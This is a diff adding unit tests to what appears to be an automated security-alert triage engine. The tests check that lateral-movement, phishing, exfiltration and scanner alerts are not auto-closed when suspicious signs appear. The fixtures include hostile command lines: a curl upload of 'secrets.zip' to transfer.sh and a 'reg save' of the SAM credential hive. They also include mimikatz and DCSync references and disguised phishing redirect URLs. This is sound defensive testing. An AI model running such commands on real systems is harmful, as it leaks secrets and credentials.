@@ -7,7 +7,7 @@ import { outsideBudget } from '../../../domain/budget';
 import { playbookFor } from '../../../domain/playbooks';
 import type { Decision } from '../../../domain/incident';
 import type { Assessment } from '../../../domain/verdict';
-import { answer, caseOf, CLEAN, judge, noIocs, SITE } from './cases';
+import { accuse, answer, caseOf, CLEAN, judge, noIocs, SITE } from './cases';
 
 /** What one who knows the rules would try: harm that looks as if the site had allowed it. */
 
@@ -125,4 +125,106 @@ test('guessing from outside casts no suspicion on an account; a guess that was r
 test('the hash of nothing shows nothing', () => {
   const { assessment } = judged('malware', { file_hash: 'd41d8cd98f00b204e9800998ecf8427e', outcome: 'blocked' });
   assert.equal(assessment.verdict, 'unknown');
+});
+
+test('what ran is not closed by a harmless address', () => {
+  for (const type of ['suspicious_ip', 'brute_force'] as const) {
+    const alert = { src_ip: '93.158.1.1', dest_ip: '10.0.0.4', direction: 'inbound' } as const;
+    assert.equal(judged(type, alert).decision.outcome, 'close', type);
+    assert.equal(judged(type, { ...alert, executed: true }).decision.outcome, 'open', type);
+  }
+});
+
+test('nothing closes itself on a host where harm was proven the same day', () => {
+  const alert = { src_ip: '10.0.0.5', src_hostname: 'jump01', dest_ip: '10.0.0.10', username: 'svc-deploy' };
+  const facts = caseOf(alert, {
+    ...TRUSTING,
+    admin_pairs: [{ source: '10.0.0.5', destination: '*', user: 'svc-deploy' }],
+  });
+  const decided = (verdict: 'malicious' | 'suspicious') => {
+    const before = {
+      id: 'INC-1',
+      alert_type: 'malware',
+      resolution: null,
+      at: '2026-11-23T08:00:00Z',
+      hosts: [],
+    } as const;
+    const earlier = [{ ...before, verdict, hosts: [], shares: ['host:jump01' as const] }];
+    const known = { ...facts, earlier };
+    return decide(
+      playbookFor('lateral_movement'),
+      known,
+      judge('lateral_movement', known, noIocs('lateral_movement', known)),
+    );
+  };
+  assert.equal(decided('suspicious').outcome, 'close');
+  assert.match(decided('malicious').reason, /shares something with an incident/);
+});
+
+test('our own database ends the leave of a scanner', () => {
+  const facts = caseOf({ src_ip: '10.0.9.7', dest_ip: '10.0.0.10' }, TRUSTING);
+  for (const type of ['suspicious_ip', 'brute_force'] as const) {
+    const others = noIocs(type, facts).filter(({ finding }) => finding.observable !== 'ip:10.0.9.7');
+    const assessment = judge(type, facts, [...others, accuse('iocs', 'ip:10.0.9.7', 90)]);
+    assert.notEqual(assessment.verdict, 'benign', type);
+  }
+});
+
+test('an allowed pair is no leave for stolen credentials, nor for the Internet', () => {
+  const site = { ...TRUSTING, admin_pairs: [{ source: '10.0.0.5', destination: '*', user: 'svc-deploy' }] };
+  const alert: Partial<Alert> = { src_ip: '10.0.0.5', dest_ip: '10.0.0.10', username: 'svc-deploy' };
+  const verdict = (change: Partial<Alert>) => {
+    const facts = caseOf({ ...alert, ...change }, site);
+    return judge('lateral_movement', facts, noIocs('lateral_movement', facts)).verdict;
+  };
+  assert.equal(verdict({}), 'benign');
+  for (const change of [
+    { mitre: ['T1550.002'] },
+    { file_name: 'mimikatz.exe' },
+    { raw_log: 'DCSync of the domain' },
+    { command_line: 'reg save HKLM\\SAM c:\\x' },
+    { dest_ip: '45.155.205.233' },
+  ]) {
+    assert.notEqual(verdict(change), 'benign', JSON.stringify(change));
+  }
+});
+
+test('a mail is not closed while its replies go elsewhere, or an attachment has no hash', () => {
+  const clean = { email_from: 'a@newsletter.com', url: 'https://newsletter.com/1', src_ip: '93.158.1.1' };
+  assert.equal(judged('phishing', clean).decision.outcome, 'close');
+  assert.equal(judged('phishing', { ...clean, reply_to: 'b@elsewhere.top' }).decision.outcome, 'open');
+  assert.equal(judged('phishing', { ...clean, file_name: 'invoice.html' }).decision.outcome, 'open');
+  const inside = { email_from: 'hr@corp.example', src_ip: '10.0.0.25', url: 'https://www.corp.example/canteen' };
+  assert.notEqual(judged('phishing', { ...inside, reply_to: 'hr@elsewhere.top' }).decision.outcome, 'close');
+  for (const query of ['to=evil-login.top/steal', 'to=/%5Cevil-login.top', 'u=aHR0cHM6Ly9ldmlsLWxvZ2luLnRvcA']) {
+    const led = { ...inside, url: `https://www.corp.example/r?${query}` };
+    assert.notEqual(judged('phishing', led).decision.outcome, 'close', query);
+  }
+});
+
+test('a small transfer is not closed while its text names a place that nobody knows, or a mail leaves', () => {
+  const small = { domain: 'contoso-partner.com', bytes_out: 5_000_000 };
+  assert.equal(judged('data_exfil', small).decision.outcome, 'close');
+  for (const change of [
+    { command_line: 'curl -T secrets.zip https://transfer.sh/x' },
+    { email_to: ['private@gmail.com'] },
+  ]) {
+    assert.notEqual(judged('data_exfil', { ...small, ...change }).decision.outcome, 'close', JSON.stringify(change));
+  }
+});
+
+test('ten addresses in one country are no ten reasons', () => {
+  const site = { ...TRUSTING, countries: { expected: [], watched: ['IR'] } };
+  const points = (count: number) => {
+    const alerts = Array.from({ length: count }, (_, index) => ({ src_ip: `93.158.1.${index + 1}` }));
+    const facts = caseOf(alerts, site);
+    const told = facts.observables.map((one) => ({
+      ...{ source: 'geoip', observable: observableId(one), evidence: '1/geoip', country: 'IR' },
+    }));
+    return playbookFor('suspicious_ip')
+      .signals({ ...facts, told })
+      .map(({ name }) => name);
+  };
+  assert.deepEqual(points(1), ['watched_country']);
+  assert.deepEqual(points(10), ['watched_country']);
 });
